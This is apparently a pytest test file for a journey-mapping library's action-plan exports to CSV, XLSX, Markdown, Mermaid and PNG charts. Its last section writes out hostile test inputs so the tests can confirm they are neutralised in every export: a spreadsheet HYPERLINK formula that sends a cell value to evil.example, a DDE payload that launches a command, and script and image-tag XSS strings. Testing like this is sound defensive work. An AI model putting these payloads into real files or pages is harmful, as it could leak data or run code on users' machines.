"""The action plan written out: CSV, XLSX, Markdown, Mermaid, the quadrant chart and the demo's files."""

from __future__ import annotations

import io
import re
from itertools import combinations

import matplotlib
import pandas as pd
import pytest
from experiment_journeys import call_centre, map_only

import journeymap as jm
import journeymap.prioritize as pr
from journeymap.text import number

matplotlib.use("Agg")


def heuristic_plan(language: str = "en") -> pr.ActionPlan:
    journey = map_only().replace(language=language)
    items = [
        pr.Intervention("Greet every visitor at the door", [], effort=2, owner="Store", touchpoints=["visit"]),
        pr.Intervention("Advice checklist", [], effort=1, touchpoints=["advice"]),
        pr.Intervention("Easier payment: card | cash", [jm.set_route("advice", "buy", 0.6, rebalance="leave")],
                        effort=8, cost=300.0),
        pr.Intervention("Nothing much", [], effort=9, touchpoints=["buy"]),
    ]
    return pr.action_plan(journey, items)


@pytest.fixture(scope="module")
def simulated():
    items = [pr.Intervention(f"Agents: {n}", [jm.set_capacity("call", n)], effort=3 * n, owner="Care")
             for n in (3, 4, 5)]
    items += [pr.Intervention("Faster diagnosis", [jm.scale_service_time("diagnose", 0.7)], effort=2),
              pr.Intervention("Patient callers", [jm.set_patience("call", 12)], effort=1),
              pr.Intervention("Chat for everyone", [jm.set_route("call", "chat", 0.3, rebalance="others")], effort=6)]
    return pr.action_plan(call_centre(), items, replications=3, seed=1, customers=400, executor="serial")


def test_csv_has_one_row_per_intervention_and_machine_columns(tmp_path):
    plan = heuristic_plan("es")
    path = plan.save(tmp_path / "plan.csv")
    frame = pd.read_csv(path)
    assert list(frame.columns) == list(pr.PLAN_COLUMNS)
    assert len(frame) == 4
    assert set(frame["quadrant"]) <= set(pr.QUADRANTS)
    assert frame["quadrant_label"].tolist() == [pr.quadrant_label(q, "es") for q in frame["quadrant"]]
    assert "Ganancias rápidas" in frame["quadrant_label"].tolist()
    assert plan.to_csv() == path.read_text(encoding="utf-8")


def test_xlsx_data_sheet_keeps_the_machine_columns(tmp_path):
    plan = heuristic_plan()
    path = plan.save(tmp_path / "plan.xlsx")
    frame = pd.read_excel(path, sheet_name="data")
    assert list(frame.columns) == list(pr.PLAN_COLUMNS) and len(frame) == 4
    assert frame["quadrant"].tolist() == plan.table["quadrant"].tolist()
    assert frame["impact"].tolist() == pytest.approx(plan.table["impact"].tolist())
    assert not list(tmp_path.glob(".plan.xlsx.*"))  # no temporary file left behind


def plan_sheet(path):
    """The plan sheet of a workbook, the row of its table's header and that header's cells by heading."""
    from openpyxl import load_workbook

    book = load_workbook(path)
    sheet = book.worksheets[0]
    header = next(row for row in range(1, 30) if sheet.cell(row, 1).value == "#")
    headings = {sheet.cell(header, k).value: k for k in range(1, sheet.max_column + 1)}
    return book, sheet, header, headings


def test_xlsx_speaks_the_journeys_language_with_names_not_ids(tmp_path):
    book, sheet, header, headings = plan_sheet(heuristic_plan("es").save(tmp_path / "plan.xlsx"))
    assert book.sheetnames == ["Plan de acción", "Gráfico", "data"]
    assert sheet["A1"].value == "Plan de acción: Map only" and sheet["A1"].font.bold
    assert list(headings) == ["#", "Intervención", "Responsable", "Etapa", "Momentos de la verdad",
                              "Puntos de contacto", "Impacto", "Esfuerzo (días-persona)", "Costo", "Confianza",
                              "Alcance", "Puntuación", "Cuadrante"]
    labels = {sheet.cell(row, 2).value: sheet.cell(row, 3) for row in range(2, header)}
    assert labels["Ciclo de servicio"].value == "Map only"
    assert labels["Umbral de esfuerzo (días-persona)"].value == 10  # the default budget of the stated rule
    assert labels["Origen de los umbrales"].value == "la regla"
    assert labels["Regla de ganancia rápida"].value == heuristic_plan("es").rule()
    assert labels["Fecha"].is_date and labels["Fecha"].number_format == "yyyy-mm-dd"
    rows = range(header + 1, header + 5)
    assert [sheet.cell(r, headings["Cuadrante"]).value for r in rows] == heuristic_plan("es").table[
        "quadrant_label"].tolist()
    assert sheet.cell(header + 1, headings["Puntos de contacto"]).value == "visit"  # a name where the map has one


def test_xlsx_of_a_simulated_plan_shows_points_percentages_and_evidence(simulated, tmp_path):
    from journeymap.prioritize.chart import COLOURS

    book, sheet, header, headings = plan_sheet(simulated.save(tmp_path / "plan.xlsx"))
    table = simulated.table
    for offset, (_, row) in enumerate(table.iterrows(), 1):
        impact = sheet.cell(header + offset, headings["Impact"])
        assert impact.value == pytest.approx(row["impact"] * 100)  # percentage points, still a number
        assert impact.number_format.startswith("+0.0") and '"pp"' in impact.number_format.replace(" ", "")
        low = sheet.cell(header + offset, headings["Lower bound (95%)"]).value
        assert low == pytest.approx(row["impact_low"] * 100)
        assert sheet.cell(header + offset, headings["Confidence"]).number_format == "0%"
        reach = sheet.cell(header + offset, headings["Reach"])
        assert reach.value == pytest.approx(row["reach"] / 100) and reach.number_format == "0.0%"
        fill = sheet.cell(header + offset, headings["Intervention"]).fill.fgColor.rgb
        colour = COLOURS[row["quadrant"]].lstrip("#")
        assert fill[-6:] != colour and all(int(fill[-6:][k:k + 2], 16) >= int(colour[k:k + 2], 16)
                                           for k in (0, 2, 4))  # a light tint of the quadrant's colour
        unclear = row["impact_low"] <= 0 <= row["impact_high"]
        evidence = sheet.cell(header + offset, headings["Evidence"]).value
        assert (evidence == "not distinguishable from no change") == unclear
    assert sheet.freeze_panes == f"C{header + 1}"
    assert sheet.print_title_rows == f"${header}:${header}"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert sheet.page_setup.fitToHeight == 0 and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.column_dimensions["B"].width >= max(len(n) for n in table["intervention"])
    labels = {sheet.cell(row, 2).value: sheet.cell(row, 3).value for row in range(2, header)}
    assert labels["Replications"] == 3 and labels["Seed"] == 1 and labels["Objective"] == "goal rate"
    assert len(book["Chart"]._images) == 1  # the quadrant chart, embedded


def test_a_flag_for_impacts_not_distinguishable_from_no_change(simulated):
    from journeymap.prioritize.export import distinguishable, evidence

    flags = distinguishable(simulated)
    for flag, key, (_, row) in zip(flags, evidence(simulated), simulated.table.iterrows(), strict=True):
        assert flag == (not row["impact_low"] <= 0 <= row["impact_high"])
        assert key == ("unclear" if not flag else "better" if row["impact"] > 0 else "worse")
    assert "unclear" in evidence(simulated)  # the fixture holds one: a bigger threshold without effect
    assert distinguishable(heuristic_plan()) == [None] * 4


def test_markdown_follows_the_language():
    english = heuristic_plan("en").to_markdown()
    spanish = heuristic_plan("es").to_markdown()
    assert english.splitlines()[2] == ("| # | Intervention | Owner | Stage | Moments of truth | Impact | Effort | "
                                       "Score | Quadrant |")
    assert spanish.splitlines()[2] == ("| # | Intervención | Responsable | Etapa | Momentos de la verdad | Impacto | "
                                       "Esfuerzo | Puntuación | Cuadrante |")
    assert spanish.startswith("## Plan de acción: Map only")
    assert "Easier payment: card \\| cash" in english  # pipes escaped, the table keeps its columns
    assert all(line.count(" | ") == 8 for line in english.splitlines() if line.startswith("| ") and "---" not in line)
    assert "puntuación heurística" in spanish


def test_simulated_markdown_shows_the_interval(simulated):
    text = simulated.to_markdown()
    row = simulated.table.iloc[0]

    def points(value: float) -> str:  # percentage points with three significant digits and a sign
        return ("+" if value > 0 else "-") + number(abs(value) * 100) + " pp"

    assert (f"| {points(row['impact'])} [{points(row['impact_low'])}, {points(row['impact_high'])}] | "
            "clear improvement |") in text
    assert "95% interval (3 paired replications, seed 1)" in text


def test_mermaid_quadrant_chart():
    plan = heuristic_plan("es")
    text = plan.to_mermaid()
    lines = text.splitlines()
    assert lines[0] == "quadrantChart"
    assert "    quadrant-2 Ganancias rápidas" in lines and "    quadrant-4 Descartar" in lines
    points = [line for line in lines if re.match(r"^    \d+\. ", line)]
    assert len(points) == 4
    for line, quadrant in zip(points, plan.table["quadrant"], strict=True):
        x, y = map(float, re.search(r"\[([\d.]+), ([\d.]+)\]$", line).groups())
        assert 0 < x < 1 and 0 < y < 1
        assert (y > 0.5) == (quadrant in ("quick_win", "big_bet"))
        assert (x > 0.5) == (quadrant in ("big_bet", "time_sink"))
        assert ":" not in line.split(": [")[0] and "|" not in line


def _label_boxes(figure):
    figure.canvas.draw()
    renderer = figure.canvas.get_renderer()
    ax = figure.axes[0]
    labels = [t for t in ax.texts if re.match(r"^\d+\. ", t.get_text())]
    return ax, labels, [t.get_window_extent(renderer) for t in labels]


def test_chart_labels_never_overlap(simulated):
    import matplotlib.pyplot as plt

    figure = simulated.plot()
    ax, labels, boxes = _label_boxes(figure)
    assert len(labels) == 6
    frame = ax.get_window_extent()
    for a, b in combinations(boxes, 2):
        assert not a.overlaps(b)
    for box in boxes:
        assert frame.contains(box.x0, box.y0) and frame.contains(box.x1, box.y1)
    names = {t.get_text() for t in ax.texts}
    assert {"Quick wins", "Big bets", "Fill-ins", "Time sinks"} <= names
    assert ax.get_ylabel() == "Impact: goal rate (percentage points), 95% interval"
    assert len(ax.containers) == 6  # an error bar per intervention
    plt.close("all")


def test_chart_in_spanish_without_intervals(tmp_path):
    import matplotlib.pyplot as plt

    plan = heuristic_plan("es")
    path = plan.save(tmp_path / "q.png")
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    figure = plan.plot()
    ax, labels, boxes = _label_boxes(figure)
    assert len(labels) == 4 and not any(a.overlaps(b) for a, b in combinations(boxes, 2))
    assert {"Ganancias rápidas", "Proyectos estratégicos", "Tareas menores", "Descartar"} <= {
        t.get_text() for t in ax.texts}
    assert ax.get_ylabel() == "clientes en juego (puntuación heurística)"
    assert not ax.containers
    plt.close("all")


def test_save_refuses_an_unknown_format(tmp_path):
    with pytest.raises(ValueError, match="cannot tell the format of"):
        heuristic_plan().save(tmp_path / "plan.docx")


def test_demo_plan_writes_the_files(tmp_path):
    from journeymap.io.catalog import template

    journey = template("service_cycle", "en")
    from journeymap.demo import demo_plan

    written = demo_plan(journey, out_dir=tmp_path, replications=2, customers=300, executor="serial")
    assert [p.name for p in written] == ["action_plan.csv", "action_plan.xlsx", "action_plan.md", "quadrants.png"]
    frame = pd.read_csv(tmp_path / "action_plan.csv")
    assert len(frame) == len(pr.sample_interventions("service_cycle")) and "quadrant" in frame.columns
    assert len(pd.read_excel(tmp_path / "action_plan.xlsx", sheet_name="data")) == len(frame)
    assert io.BytesIO((tmp_path / "quadrants.png").read_bytes()).read(4) == b"\x89PNG"


# -- issue 12: hostile names through every file of the plan ------------------------------------------------
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
DDE = "+cmd|' /C calc'!A0"
EVIL_TITLE = "Evil\n\n<script>alert(1)</script>\r\n| a | b |\n|---|---|\n<img src=x onerror=alert(1)>"


def hostile_plan() -> pr.ActionPlan:
    journey = map_only().replace(title=EVIL_TITLE)
    items = [
        pr.Intervention(HYPERLINK, [], effort=2, owner=DDE, touchpoints=["visit"]),
        pr.Intervention("Pipes \\| and\rreturns <img src=x onerror=alert(1)>", [], effort=1, owner="@SUM(1+1)",
                        touchpoints=["advice"]),
    ]
    return pr.action_plan(journey, items)


def test_hostile_names_never_become_formulas_in_the_xlsx(tmp_path):
    import zipfile

    path = hostile_plan().save(tmp_path / "plan.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets and "<f " not in sheets
    _, sheet, header, headings = plan_sheet(path)
    names = {sheet.cell(r, headings["Intervention"]).value for r in (header + 1, header + 2)}
    assert HYPERLINK in names
    owners = {sheet.cell(r, headings["Owner"]).value for r in (header + 1, header + 2)}
    assert owners == {DDE, "@SUM(1+1)"}


def test_hostile_names_are_neutralised_in_the_csv(tmp_path):
    frame = pd.read_csv(hostile_plan().save(tmp_path / "plan.csv"))
    assert set(frame["intervention"]) == {"'" + HYPERLINK, "Pipes \\| and\nreturns <img src=x onerror=alert(1)>"}
    assert set(frame["owner"]) == {"'" + DDE, "'@SUM(1+1)"}
    assert frame["impact"].dtype == float  # numbers stay numbers


def test_hostile_title_and_names_stay_text_in_the_markdown():
    from markdown_it import MarkdownIt

    text = hostile_plan().to_markdown()
    page = MarkdownIt("commonmark").enable("table").render(text)
    assert page.count("<h2>") == 1 and page.count("<table>") == 1 and "<script" not in page and "<img" not in page
    lines = text.splitlines()
    assert lines[0].startswith("## Action plan: Evil &lt;script&gt;")
    assert all(line.count(" | ") == 8 for line in lines if line.startswith("| ") and "---" not in line)
    assert "Pipes \\\\\\| and returns &lt;img src=x onerror=alert(1)&gt;" in text  # one cell: \| escaped once
